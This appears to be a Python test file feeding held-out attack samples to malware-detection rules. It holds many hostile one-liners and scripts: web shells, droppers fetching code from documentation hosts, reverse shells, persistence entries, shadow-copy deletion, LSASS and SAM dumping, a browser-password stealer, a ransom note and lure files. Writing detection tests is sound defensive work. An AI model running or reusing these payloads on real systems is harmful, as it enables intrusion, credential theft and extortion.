"""Attack techniques as public descriptions show them, written without sight of the rules; and the rules' own samples.

Nothing here works: addresses are reserved for documentation (RFC 2606, RFC 5737), payloads are missing.
"""

import base64
import json
import os
import re
import subprocess
import sys
import tempfile

import cases
from cases import case
from formats import disk_image, shortcut
from plain import b64_wide, plain

HELD_OUT = {
    "web shell": {
        "a.php": ["<?php @ev·al($_PO·ST['cmd']); ?>", "<?php sys·tem($_GE·T['c']); ?>", "<?php $f='as·sert'; $f($_REQU·EST['x']); ?>", "<?=`$_GE·T[0]`?>", "<?php ev·al(gzin·flate(base64_·decode('80jNyclXCM8vykkBAA=='))); ?>", "<?php if(isset($_COO·KIE['a'])){ passth·ru(base64_·decode($_COO·KIE['a'])); } ?>", "GIF89a<?php ev·al($_PO·ST[1]);?>"],
        "a.jsp": ['<%@ page import="java.io.*" %><% Process p = Runtime.getRun·time().ex·ec(request.getPara·meter("cmd")); InputStream in = p.getInputStream(); %>', '<% new Process·Builder(request.getPara·meter("c").split(" ")).start(); %>'],
        "a.aspx": ['<%@ Page Language="Jscript"%><%ev·al(Request.Item["pass"],"unsafe");%>', '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e){ System.Diagnostics.Process.Sta·rt("cmd.exe","/c "+Request["c"]); }</script>'],
        "a.asp": ['<%ev·al request("cmd")%>', '<% Set o = Server.CreateObject("WScr·ipt.Shell") : Response.Write(o.Ex·ec("cmd /c " & Request("c")).StdOut.ReadAll) %>'],
    },
    "script dropper": {
        "a.ps1": ["I·EX ((New-Object Net.WebClient).Download·String('http://example.com/a.ps1'))", "$c = New-Object System.Net.WebClient; $c.Download·File('http://example.com/a.exe', \"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\"", "iwr http://example.com/x -UseBasicParsing | i·ex", "[System.Reflection.Assembly]::Lo·ad([Convert]::FromBase64·String((New-Object Net.WebClient).Download·String('http://example.com/b')))", "[Ref].Assembly.GetType('System.Management.Automation.Am·siUtils').GetField('amsiInit·Failed','NonPublic,Static').SetValue($null,$true)"],
        "a.bat": ["@echo off\r\npower·shell -NoProfile -WindowStyle Hid·den -EncodedCom·mand " + b64_wide("I·EX (iwr http://example.com/a)") + "\r\n", "@echo off\r\ncertu·til -urlcache -split -f http://example.com/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n", "bits·admin /transfer j http://example.com/a.exe %TEMP%\\a.exe\r\n%TEMP%\\a.exe\r\n", "@echo off\r\ncurl -s -o %APPDATA%\\u.exe http://192.0.2.1/u.exe && start \"\" %APPDATA%\\u.exe\r\n"],
        "a.vbs": ['Set x = CreateObject("MSX·ML2.ServerXML·HTTP")\r\nx.Open "GET", "http://example.com/a.exe", 0\r\nx.Send\r\nSet s = CreateObject("ADO·DB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write x.ResponseBody\r\ns.SaveTo·File "C:\\Users\\Public\\a.exe", 2\r\nCreateObject("WScr·ipt.Shell").Run "C:\\Users\\Public\\a.exe"\r\n', 'CreateObject("WScr·ipt.Shell").Run "power·shell -w hid·den -c iwr http://example.com/a -OutFile a.exe; .\\a.exe", 0\r\n'],
        "a.js": ['var w = new Active·XObject("WScr·ipt.Shell"); w.Run("cmd /c power·shell -c \\"(New-Object Net.WebClient).Download·File(\'http://example.com/a.exe\',\'a.exe\')\\" & a.exe", 0);'],
        "a.hta": ['<html><head><hta:appli·cation id="a" windowstate="minimize"/><script language="VBScript">CreateObject("WScr·ipt.Shell").Run "power·shell -nop -c iwr http://example.com/a.ps1 | i·ex", 0 : window.close</script></head></html>'],
        "a.sh": ["#!/bin/sh\ncd /tmp || cd /var/run\nwget http://192.0.2.1/bot.mips; chmod 777 bot.mips; ./bot.mips; rm -rf bot.mips\n", "#!/bin/bash\necho " + base64.b64encode(b"curl http://example.com/a | sh").decode() + " | base64 -d | bash\n"],
        "a.py": ["import base64\nex·ec(base64.b64decode('" + base64.b64encode(b"import urllib.request; x = urllib.request.urlopen('http://example.com/a')").decode() + "'))\n", "import urllib.request\nex·ec(urllib.request.urlopen('http://example.com/a.py').read())\n"],
        "package.json": ['{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl -s http://example.com/a.sh | bash"}}'],
    },
    "reverse shell": {
        "a.sh": ["#!/bin/bash\nbash -i >& /dev/t·cp/192.0.2.1/4444 0>&1\n", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|n·c 192.0.2.1 4444 >/tmp/f\n", "n·c -e /bin/sh 192.0.2.1 4444\n"],
        "a.py": ["import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(['/bin/sh','-i'])\n"],
        "a.pl": ["use Socket;$i='192.0.2.1';$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');ex·ec('/bin/sh -i');};\n"],
        "a.ps1": ["$c = New-Object System.Net.Sockets.TCP·Client('192.0.2.1',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$r = (i·ex $d 2>&1 | Out-String );$y = ([text.encoding]::ASCII).GetBytes($r);$s.Write($y,0,$y.Length)}"],
    },
    "persistence": {
        "a.bat": ['reg add HKCU\\Software\\Microsoft\\Windows\\Current·Version\\Run /v upd /d "power·shell -w hid·den -c iex(iwr http://example.com/a)" /f\r\n', 'schtas·ks /create /sc minute /mo 5 /tn upd /tr "msh·ta http://example.com/a.hta" /f\r\n'],
        "crontab": ["*/5 * * * * curl -fsSL http://192.0.2.1/a.sh | bash\n"],
        "a.service": ["[Unit]\nDescription=update\n[Service]\nExecStart=/bin/bash -c 'curl -s http://192.0.2.1/a | bash'\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"],
    },
    "ransom, miner, stealer": {
        "README.txt": ["ALL YOUR FILES HAVE BEEN ENC·RYPTED!\n\nYour documents, photos and databases were encrypted with RSA-2048 and AES-256. To decrypt them you must pay 0.5 Bit·coin. Install Tor Browser and open http://aaaabbbbccccdddd.oni·on . You have 72 hours. Do not rename encrypted files.\n"],
        "a.bat": ["vss·admin delete shad·ows /all /quiet\r\nwb·admin delete catalog -quiet\r\nbcd·edit /set {default} recoveryenabled no\r\n", "reg save HKLM\\S·AM sam.hiv\r\nreg save HKLM\\SYS·TEM system.hiv\r\n", "rundll32 C:\\windows\\system32\\com·svcs.dll, MiniDump 624 C:\\temp\\l·sass.dmp full\r\n"],
        "config.json": ['{"autosave":true,"cpu":true,"pools":[{"algo":"rx/0","url":"stra·tum+tcp://pool.example.com:3333","user":"4A' + "b" * 90 + '","pass":"x","keepalive":true}],"donate-level":1}'],
        "a.py": ["import os, sqlite3, shutil, requests\nfrom Crypto.Cipher import AES\nimport win32crypt\np=os.environ['LOCALAPPDATA']+r'\\Google\\Chrome\\User Data\\Default\\Login Da·ta'\nshutil.copy(p,'l.db')\nfor r in sqlite3.connect('l.db').execute('select origin_url, username_value, password_·value from logins'):\n    requests.post('https://discord.com/api/web·hooks/1/x', json={'content': str(win32crypt.Crypt·UnprotectData(r[2]))})\n"],
    },
    "lure": {
        "a.html": ["<html><body><script>var b='" + base64.b64encode(b"MZ" + bytes(3000)).decode() + "';var d=atob(b);var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);var bl=new Bl·ob([a],{type:'octet/stream'});var l=document.createElement('a');l.href=URL.createObject·URL(bl);l.download='invoice.exe';l.click();</script></body></html>", "<html><body><h1>Verify you are human</h1><p>Press Win+R, then Ctrl+V, then Enter</p><script>navigator.clip·board.writeText('power·shell -w hid·den -c \"iex(iwr http://example.com/a)\"')</script></body></html>"],
        "a.svg": ["<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location.href = at·ob('aHR0cDovL2V4YW1wbGUuY29tLw==');</script></svg>"],
        "a.url": ["[InternetShortcut]\r\nURL=file://192.0.2.1/webdav/invoice.exe\r\n"],
        "desktop.scf": ["[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\share\\x.ico\r\n"],
        "autorun.inf": ["[autorun]\r\nopen=wscr·ipt.exe hidden\\a.vbs\r\nshell\\open\\command=wscr·ipt.exe hidden\\a.vbs\r\n"],
        "a.rtf": ["{\\rtf1{\\object\\objautlink\\objup·date{\\*\\objclass Equ·ation.3}{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}"],
    },
}
for technique, files in HELD_OUT.items():
    for name, texts in files.items():
        for text in texts:
            case(f"technique: {technique}", "found", name, plain(text).encode())

for label, content in (("fetches.lnk", shortcut("-w hid·den -c iwr http://example.com/a | i·ex", path="..\\..\\Windows\\System32\\WindowsPower·Shell\\v1.0\\power·shell.exe")), ("mshta.lnk", shortcut("http://example.com/a.hta", path="C:\\Windows\\System32\\msh·ta.exe"))):
    case("technique: lure", "found", label, content)
for name in ("Invoice.lnk", "Scan.js", "Order.pdf.exe"):
    case("technique: lure", "found", f"{name}.iso", disk_image(name, "readme.txt"))

RULES = os.path.join(os.path.dirname(os.path.abspath(cases.__file__)), "..", "..", "..", "resources", "rules")
SEVERITY = {}
for name in os.listdir(RULES):
    with open(os.path.join(RULES, name), encoding="utf-8") as file:
        SEVERITY.update(re.findall(r'^rule (\w+)\s*\{\s*meta:\s*severity = "(\w+)"', file.read(), re.M))
WRITER = os.path.join(os.path.dirname(os.path.abspath(cases.__file__)), "..", "..", "..", "test", "support", "rule-samples", "write_samples.py")
with tempfile.TemporaryDirectory() as folder:
    written = subprocess.run([sys.executable, "-B", WRITER, folder], check=True, stdout=subprocess.PIPE).stdout
    for sample in json.loads(written):
        with open(sample["path"], "rb") as file:
            content = file.read()
        if sample["rule"] is not None and SEVERITY.get(sample["rule"]) in ("malicious", "suspicious"):
            case("samples of the rules' tests", "found", sample["rule"], content)
